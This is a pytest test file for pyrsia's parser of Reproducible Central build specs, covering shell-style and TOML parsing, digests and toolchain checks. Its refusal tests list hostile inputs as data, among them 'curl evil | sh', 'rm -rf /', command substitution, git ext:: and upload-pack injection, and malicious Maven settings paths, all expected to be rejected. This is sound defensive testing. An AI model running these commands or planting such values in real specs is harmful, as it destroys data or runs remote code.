"""Build specs: Reproducible Central's `.buildspec` read as data, pyrsia's TOML form,
the refusals (each one `BuildSpecInvalid` line), toolchain support and the digest."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pyrsia.errors import BuildSpecInvalid, ToolchainUnavailable
from pyrsia.sourcebuild.spec import (
    SPEC_SIZE_BYTES_MAX,
    VALUE_CHARS_MAX,
    Jdk,
    Toolchain,
    canonical_fields,
    load_spec,
    parse_buildspec,
    parse_command,
    parse_toml_spec,
    read_buildspec,
    require_supported,
    spec_digest,
    spec_from_canonical,
    spec_from_flags,
)

# The shape of a real Reproducible Central spec (commons-lang3 3.17.0), with a
# continuation line, an export and a comment after a value added.
COMMONS_LANG = b"""groupId=org.apache.commons
artifactId=commons-lang3
display=${groupId}:${artifactId}
version=3.17.0

gitRepo=https://github.com/apache/commons-lang.git
gitTag=rel/commons-lang-${version}

tool=mvn
jdk=17
newline=lf
#umask=022

command="mvn clean verify -DskipTests -Dgpg.skip \\
 -Dmaven.javadoc.skip -Dbuildinfo.ignore='*/*.spdx.json'"
export buildinfo=target/${artifactId}-${version}.buildinfo  # the default

#diffoscope=${artifactId}-${version}.diffoscope
issue=
"""

TOML = b"""groupId = "org.apache.commons"
artifactId = "commons-lang3"
version = "3.17.0"
gitRepo = "https://github.com/apache/commons-lang.git"
gitTag = "rel/commons-lang-3.17.0"
tool = "mvn"
jdk = 17
newline = "lf"
command = ["mvn", "clean", "verify", "-DskipTests", "-Dgpg.skip", "-Dmaven.javadoc.skip",
           "-Dbuildinfo.ignore=*/*.spdx.json"]
buildinfo = "target/commons-lang3-3.17.0.buildinfo"
"""

TOOLCHAIN = Toolchain(
    maven_version="3.8.7",
    jdks=(Jdk(major=17, version="17.0.15", home="/usr/lib/jvm/java-17-openjdk-amd64"),),
)


def _spec(**changes: str) -> bytes:
    fields = {
        "groupId": "com.example",
        "artifactId": "hello",
        "version": "1.0",
        "gitRepo": "git://127.0.0.1:9418/hello.git",
        "gitTag": "v1.0",
        "tool": "mvn",
        "jdk": "17",
        "newline": "lf",
        "command": '"mvn package -DskipTests"',
    }
    fields.update(changes)
    return "".join(f"{k}={v}\n" for k, v in fields.items() if v is not None).encode()


def test_reads_a_reproducible_central_spec_as_data() -> None:
    spec = parse_buildspec(COMMONS_LANG)
    assert spec.gav == "org.apache.commons:commons-lang3:3.17.0"
    assert spec.git_tag == "rel/commons-lang-3.17.0"
    assert spec.jdk == 17 and spec.tool == "mvn" and spec.newline == "lf"
    assert spec.command == (
        "mvn",
        "clean",
        "verify",
        "-DskipTests",
        "-Dgpg.skip",
        "-Dmaven.javadoc.skip",
        "-Dbuildinfo.ignore=*/*.spdx.json",
    )
    assert spec.buildinfo == "target/commons-lang3-3.17.0.buildinfo"
    assert spec.umask == 0o022 and spec.timezone == "UTC"
    assert read_buildspec(COMMONS_LANG)["display"] == "org.apache.commons:commons-lang3"


def test_toml_and_buildspec_of_one_release_have_one_digest() -> None:
    from_shell, from_toml = parse_buildspec(COMMONS_LANG), parse_toml_spec(TOML)
    assert from_shell == from_toml
    assert spec_digest(from_shell) == spec_digest(from_toml)
    assert spec_digest(from_shell).startswith("sha256:") and len(spec_digest(from_shell)) == 71
    assert load_spec(TOML, filename="x.toml") == load_spec(COMMONS_LANG, filename="x.buildspec")


def test_digest_covers_every_build_field_but_not_cosmetics() -> None:
    base = parse_buildspec(_spec())
    assert spec_digest(parse_buildspec(_spec() + b"issue=https://x/1\ndisplay=x\n")) == spec_digest(base)
    for change in ({"jdk": "11"}, {"gitTag": "v1.1"}, {"command": '"mvn verify"'}, {"newline": "crlf"}):
        assert spec_digest(parse_buildspec(_spec(**change))) != spec_digest(base), change
    assert canonical_fields(base)["format"] == "pyrsia-buildspec/1"


def test_shell_quoting_rules() -> None:
    values = read_buildspec(
        b"a=one\n"
        b"b='${a} stays'\n"
        b'c="$a and ${a}"\n'
        b'd=x\\ y"q\\"uote"\n'
        b"e=$a-\\\n"
        b"tail\n"
        b"  # indented comment\n"
        b"f=\n"
        b'g="cost \\$5 \\\\ ok"\n'
    )
    assert values == {
        "a": "one",
        "b": "${a} stays",
        "c": "one and one",
        "d": 'x yq"uote',
        "e": "one-tail",
        "f": "",
        "g": "cost $5 \\ ok",
    }


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        (b"a=$(id)\n", "command substitution"),
        (b'a="`id`"\n', "command substitution"),
        (b"a=`id`\n", "shell syntax"),
        (b"a=b; rm -rf /\n", "shell syntax"),
        (b"a=b && echo\n", "shell syntax"),
        (b"a=b | tee\n", "shell syntax"),
        (b"a=b > /etc/passwd\n", "shell syntax"),
        (b"a=b echo hi\n", "single word"),
        (b"echo hi\n", "only NAME=value"),
        (b"if true; then a=1; fi\n", "only NAME=value"),
        (b"a=${b:-x}\n", "${NAME} only"),
        (b"a=${undefined}\n", "not assigned above"),
        (b"a='open\n", "unterminated single quote"),
        (b'a="open\n', "unterminated double quote"),
    ],
)
def test_shell_beyond_assignments_is_refused_with_its_line(text: bytes, needle: str) -> None:
    with pytest.raises(BuildSpecInvalid) as caught:
        read_buildspec(b"# header\n" + text)
    assert needle in caught.value.message
    assert caught.value.message.startswith("buildspec line 2:")
    assert "\n" not in caught.value.message


def test_enormous_spec_is_refused_before_reading() -> None:
    huge = _spec() + b"#" + b"x" * SPEC_SIZE_BYTES_MAX
    with pytest.raises(BuildSpecInvalid, match="at most 65536 are read"):
        parse_buildspec(huge)
    with pytest.raises(BuildSpecInvalid, match="at most 65536 are read"):
        parse_toml_spec(huge)


def test_expansion_cannot_grow_without_bound() -> None:
    chunk = b"a=" + b"x" * 4000 + b"\n"
    with pytest.raises(BuildSpecInvalid, match=f"longer than {VALUE_CHARS_MAX}"):
        read_buildspec(chunk + b'b="${a}${a}${a}"\n')
    with pytest.raises(BuildSpecInvalid, match=f"longer than {VALUE_CHARS_MAX}"):
        read_buildspec(chunk + b"b=${a}${a}${a}\n")


@pytest.mark.parametrize(
    ("change", "needle"),
    [
        ({"gitTag": "refs/heads/main"}, "names a branch"),
        ({"gitTag": "refs/remotes/origin/main"}, "names a branch"),
        ({"gitTag": "HEAD"}, "moves"),
        ({"gitTag": "refs/pull/1/head"}, "is not a tag"),
        ({"gitTag": "-upload-pack=evil"}, "not a valid git tag"),
        ({"gitTag": "v1..0"}, "not a valid git tag"),
        ({"gitTag": "v1.0~1"}, "not a valid git tag"),
        ({"gitRepo": "ssh://git@example.com/x.git"}, "not a git, https, http or file URL"),
        ({"gitRepo": "git@example.com:x.git"}, "not a git, https, http or file URL"),
        ({"gitRepo": "'ext::sh -c id'"}, "spaces or control characters"),
        ({"gitRepo": "ext::sh%20-c%20id"}, "not a git, https, http or file URL"),
        ({"gitRepo": "ftp://example.com/x.git"}, "not a git, https, http or file URL"),
        ({"gitRepo": "file://otherhost/x.git"}, "absolute path"),
        ({"gitRepo": "https:///x.git"}, "names no host"),
        ({"gitRepo": "https://example.com"}, "names no repository"),
        ({"command": '"mvn package; curl evil | sh"'}, "shell syntax"),
        ({"command": '"mvn package && rm -rf /"'}, "shell syntax"),
        ({"command": '"mvn package -Dx=\\$(id)"'}, "shell syntax"),
        ({"command": '"mvn package > /tmp/x"'}, "shell syntax"),
        ({"command": '"mvn package `id`"'}, "command substitution"),
        ({"command": '"./mvnw package"'}, "must start with mvn"),
        ({"command": '"gradle build"'}, "must start with mvn"),
        ({"command": '"mvn -s /tmp/evil.xml package"'}, "supplies Maven's settings"),
        ({"command": '"mvn --settings=/x package"'}, "supplies Maven's settings"),
        ({"command": '"mvn -s/tmp/evil.xml package"'}, "supplies Maven's settings"),
        ({"command": '"mvn -gs/tmp/evil.xml package"'}, "supplies Maven's settings"),
        ({"command": '"mvn -Dmaven.repo.local=/ package"'}, "each build has its own"),
        ({"command": '"mvn \'unterminated"'}, "does not split"),
        ({"jdk": "seventeen"}, "JDK major version"),
        ({"newline": "cr"}, "lf or crlf"),
        ({"groupId": "com/example"}, "not a Maven coordinate"),
        ({"tool": "make all"}, "single word"),
        ({"tool": "'make all'"}, "not a tool name"),
        ({"command": None}, "spec has no command"),
        ({"gitTag": None}, "spec has no gitTag"),
    ],
)
def test_bad_fields_are_refused_with_one_line(change: dict[str, str | None], needle: str) -> None:
    with pytest.raises(BuildSpecInvalid) as caught:
        parse_buildspec(_spec(**change))  # type: ignore[arg-type]
    assert needle in caught.value.message
    assert "\n" not in caught.value.message
    assert caught.value.exit_code == 2


def test_tags_and_commits_are_accepted() -> None:
    assert parse_buildspec(_spec(gitTag="refs/tags/v1.0")).git_tag == "v1.0"
    commit = "0123456789abcdef0123456789abcdef01234567"
    assert parse_buildspec(_spec(gitTag=commit)).pins_commit
    assert not parse_buildspec(_spec(gitTag="release/1.0")).pins_commit
    assert parse_buildspec(_spec(gitRepo="file:///srv/git/hello.git")).git_repo == "file:///srv/git/hello.git"
    assert parse_buildspec(_spec(jdk="1.8")).jdk == 8


@pytest.mark.parametrize("key", ["sourceDistribution", "execBefore", "execAfter"])
def test_non_git_sources_and_hooks_are_refused(key: str) -> None:
    with pytest.raises(BuildSpecInvalid, match=key):
        parse_buildspec(_spec() + f"{key}=something\n".encode())


def test_toml_refuses_unknown_keys_and_hooks() -> None:
    with pytest.raises(BuildSpecInvalid, match="unknown keys: gitBranch"):
        parse_toml_spec(TOML + b'gitBranch = "main"\n')
    with pytest.raises(BuildSpecInvalid, match="execBefore"):
        parse_toml_spec(TOML + b'execBefore = "curl x | sh"\n')
    with pytest.raises(BuildSpecInvalid, match="shell syntax"):
        parse_toml_spec(TOML.replace(b'"-Dgpg.skip"', b'"-Dgpg.skip;id"'))
    with pytest.raises(BuildSpecInvalid, match="TOML spec"):
        parse_toml_spec(b"groupId = \n")


def test_optional_environment_fields() -> None:
    spec = parse_buildspec(
        _spec() + b"umask=002\ntimezone=\"Etc/GMT\"\nMAVEN_OPTS='-Duser.country=US -Xss4m'\n"
    )
    assert spec.umask == 0o002 and spec.timezone == "Etc/GMT"
    assert spec.maven_opts == ("-Duser.country=US", "-Xss4m")
    with pytest.raises(BuildSpecInvalid, match="MAVEN_OPTS may hold"):
        parse_buildspec(_spec() + b"MAVEN_OPTS='-javaagent:/tmp/x.jar'\n")
    with pytest.raises(BuildSpecInvalid, match="timezone"):
        parse_buildspec(_spec() + b"timezone=../../etc/passwd\n")


def test_toolchain_support() -> None:
    assert require_supported(parse_buildspec(_spec()), TOOLCHAIN).major == 17
    assert require_supported(parse_buildspec(_spec(tool="mvn-3.8.7")), TOOLCHAIN).major == 17
    for change, needle in (
        ({"jdk": "11"}, "jdk 11: this node has JDK 17"),
        ({"tool": "gradle"}, "mvn only"),
        ({"tool": "mvn-3.6.3"}, "Maven 3.8.7 only"),
    ):
        with pytest.raises(ToolchainUnavailable, match=needle):
            require_supported(parse_buildspec(_spec(**change)), TOOLCHAIN)
    assert require_supported(parse_buildspec(_spec(newline="crlf")), TOOLCHAIN).major == 17
    lf_only = Toolchain(maven_version="3.8.7", jdks=TOOLCHAIN.jdks, newlines=frozenset({"lf"}))
    with pytest.raises(ToolchainUnavailable, match="newline crlf: this node builds with lf"):
        require_supported(parse_buildspec(_spec(newline="crlf")), lf_only)


def test_command_is_argv_never_shell_text() -> None:
    assert parse_command("mvn -Dx='a b' package") == ("mvn", "-Dx=a b", "package")
    assert parse_command('mvn "-Dglob=*"') == ("mvn", "-Dglob=*")


@given(st.binary(max_size=2048))
def test_any_bytes_parse_or_refuse_cleanly(data: bytes) -> None:
    try:
        read_buildspec(data)
    except BuildSpecInvalid as exc:
        assert "\n" not in exc.message.split(":", 1)[0]


@given(st.text(alphabet=st.sampled_from("ab=$'\"\\{}#\n ;()`x"), max_size=200))
def test_shellish_text_parses_or_refuses_cleanly(text: str) -> None:
    try:
        values = read_buildspec(text.encode())
    except BuildSpecInvalid:
        return
    assert all(len(v) <= VALUE_CHARS_MAX for v in values.values())


def test_canonical_fields_round_trip_and_are_checked_again() -> None:
    spec = parse_buildspec(_spec() + b"umask=002\nMAVEN_OPTS='-Duser.country=US'\n")
    fields = canonical_fields(spec)
    assert spec_from_canonical(fields) == spec
    assert spec_digest(spec_from_canonical(fields)) == spec_digest(spec)
    for change, needle in (
        ({"format": "other/1"}, "format must be"),
        ({"command": ["mvn", "package;id"]}, "shell syntax"),
        ({"gitTag": "refs/heads/main"}, "names a branch"),
        ({"mavenOpts": ["-Dx=a b"]}, "MAVEN_OPTS"),
        ({"umask": "022"}, "umask must be"),
        ({"extra": 1}, "unknown keys: extra"),
    ):
        with pytest.raises(BuildSpecInvalid, match=needle):
            spec_from_canonical({**fields, **change})


def test_cli_flags_make_the_same_spec() -> None:
    flags = spec_from_flags(
        git="git://127.0.0.1:9418/hello.git", tag="v1.0", gav="com.example:hello:1.0", jdk="17",
        command="mvn package -DskipTests",
    )  # fmt: skip
    assert flags == parse_buildspec(_spec())
    with pytest.raises(BuildSpecInvalid, match="GROUP:ARTIFACT:VERSION"):
        spec_from_flags(git="git://h/x.git", tag="v1", gav="com.example:hello", jdk=17, command="mvn package")
